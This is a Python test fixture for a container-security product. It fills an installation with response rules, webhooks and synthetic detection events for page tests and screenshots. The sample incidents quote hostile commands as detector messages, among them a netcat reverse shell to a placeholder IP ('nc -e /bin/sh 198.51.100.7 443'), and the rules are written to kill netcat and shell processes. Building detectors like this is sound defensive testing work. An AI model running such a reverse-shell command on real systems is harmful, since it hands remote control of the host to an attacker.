"""What an installation has after a busy hour, put there through the API: for screenshots and the tests of pages."""

from __future__ import annotations

import contextlib
import random
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
from tests.console.example_policies import with_a_night, with_policies
from tests.system.scripted_agent import ScriptedAgent

from quell.model.action import KillProcess
from quell.model.decision import Outcome, OutcomeStatus

INPUTS = Path(__file__).resolve().parents[1] / "inputs"
NODES = ("edge-1", "edge-2", "build-7", "db-1")
RULES = """
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: isolate-tunnels}
spec: {event: incident, criteria: ["name:Container.Tunnel.Detected"], actions: [{quarantine: {ttl: 6h}}, {makeRedFlag: {severity: critical, impact: Data may leave the cluster}}]}
---
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: kill-netcat}
spec: {event: incident, criteria: ["process:nc"], actions: [agentKillProcess, {makeRedFlag: {severity: high}}]}
---
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: ask-before-killing-shells}
spec: {event: incident, criteria: ["process:bash"], actions: [agentKillProcess], approval: true}
---
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: tell-of-privilege-escalation}
spec: {event: incident, criteria: ["name:Container.Privilege.Escalation"], actions: [{makeRedFlag: {severity: medium}}]}
---
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: critical-images}
spec: {event: cve-report, criteria: ["cve-high:>2"], actions: [{makeOpsFlag: {severity: high}}]}
---
apiVersion: quell.dev/v1
kind: Group
metadata: {name: shop}
spec: {comment: What customers use, criteria: [{key: namespace, op: "=", value: shop}, {key: container, op: "!=", value: search}]}
---
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: packages-in-the-shop}
spec: {event: event, group: shop, criteria: ["name:Container.Package.Updated"], actions: [{makeOpsFlag: {severity: low}}], disable: true, comment: To be enabled once images are built weekly}
---
apiVersion: quell.dev/v1
kind: Webhook
metadata: {name: chat}
spec: {url: "https://hooks.example/services/T1/B2/x7", type: Slack, default: true, filter: {level: Error, flags: true}}
---
apiVersion: quell.dev/v1
kind: Webhook
metadata: {name: archive}
spec: {url: "https://127.0.0.1:9/quell", secret: whsec_b25seS1mb3ItdGhpcy1wYWdlLW5vdC1hLXNlY3JldCE=, headers: {X-Tenant: shop}}
---
apiVersion: quell.dev/v1
kind: ResponseRule
metadata: {name: archive-updates}
spec: {event: security-event, criteria: ["name:Container.Package.Updated"], actions: [webhook], webhooks: [archive]}
"""
#: Name, level, process, workload, image, and what the detector says.
_INCIDENTS = (
    ("Container.Tunnel.Detected", "Critical", "iodine", "checkout", "registry.example/shop/checkout:4.2.1", "DNS tunnel to t.example.net"),
    ("Host.Suspicious.Process", "Critical", "nc", "", "", "netcat was started by hand: nc -l 4444"),
    ("Container.Suspicious.Process", "Error", "bash", "payments", "registry.example/shop/payments:1.9.0", "an interactive shell in a container"),
    ("Container.Suspicious.Process", "Warning", "nc", "cart", "registry.example/shop/cart:7.0.3", "nc -e /bin/sh 198.51.100.7 443"),
    ("Container.Privilege.Escalation", "Error", "su", "search", "registry.example/shop/search:2.2.0", "root within a container that runs as 1000"),
)  # fmt: skip
_QUIET = (
    ("Container.Start", "Info"),
    ("Container.Stop", "Info"),
    ("Container.Package.Updated", "Notice"),
)


@contextlib.contextmanager
def filled(admin: httpx.Client, *, seed: int = 7, before: Callable[[], None] = lambda: None) -> Iterator[None]:
    """While it lasts, one agent is linked and does what it is told; others are enrolled and away.

    before: is called before each event is made.
    """
    pick = random.Random(seed)  # noqa: S311 - the same data each time, no secret
    agents = [ScriptedAgent(admin, node) for node in NODES]
    ended = threading.Event()
    with agents[0].linked():
        worker = threading.Thread(target=_obey, args=(agents[0], ended))
        worker.start()
        try:
            admin.post("/v1/documents", content=RULES).raise_for_status()
            for number in range(90):
                before()
                _post(admin, _quiet(pick, number))
            for number in range(24):
                before()
                _post(admin, _incident(pick, number))
            admin.post("/v1/events/trivy", content=(INPUTS / "trivy" / "image.json").read_bytes()).raise_for_status()
            with_policies(admin)
            with_a_night(admin)
            yield
        finally:
            ended.set()
            worker.join(30)


def _obey(agent: ScriptedAgent, ended: threading.Event) -> None:
    while not ended.is_set():
        try:
            command = agent.hear_order(0.2)
        except TimeoutError:
            continue
        facts: dict[str, Any] = {"pids": [4711]} if isinstance(command.action, KillProcess) else {"namespaces": 1}
        outcome = Outcome(id=command.id, status=OutcomeStatus.DONE, time=time.time(), duration=0.0021, facts=facts)
        agent.tell(outcome)


def _post(admin: httpx.Client, event: dict[str, Any]) -> None:
    admin.post("/v1/events", json=event).raise_for_status()


def _quiet(pick: random.Random, number: int) -> dict[str, Any]:
    name, level = pick.choices(_QUIET, (10, 8, 2))[0]
    return {
        "id": f"quiet-{number}",
        "time": time.time(),
        "name": name,
        "level": level,
        "subject": _subject(
            pick, pick.choice(("checkout", "payments", "cart", "search")), "registry.example/shop/web:1.0"
        ),
    }


def _incident(pick: random.Random, number: int) -> dict[str, Any]:
    name, level, process, workload, image, message = _INCIDENTS[number % len(_INCIDENTS)]
    subject = _subject(pick, workload, image)
    subject["process"] = {"pid": 4700 + number, "start_ticks": 8_412_345 + number, "boot_id": "boot", "name": process, "exe": f"/usr/bin/{process}", "user": "root"}  # fmt: skip
    return {
        "id": f"incident-{number}",
        "time": time.time(),
        "category": "incident",
        "name": name,
        "level": level,
        "subject": subject,
        "details": {"message": message},
    }


def _subject(pick: random.Random, workload: str, image: str) -> dict[str, Any]:
    # What is to be answered happens where the agent is linked.
    subject: dict[str, Any] = {"node": NODES[0]}
    if workload:
        subject |= {
            "namespace": "shop",
            "image": image,
            "container": {"id": f"{workload.encode().hex():0<64}"[:64], "name": workload},
            "pod": {"name": f"{workload}-{pick.randrange(16**5):05x}", "uid": f"uid-{workload}"},
        }
    return subject
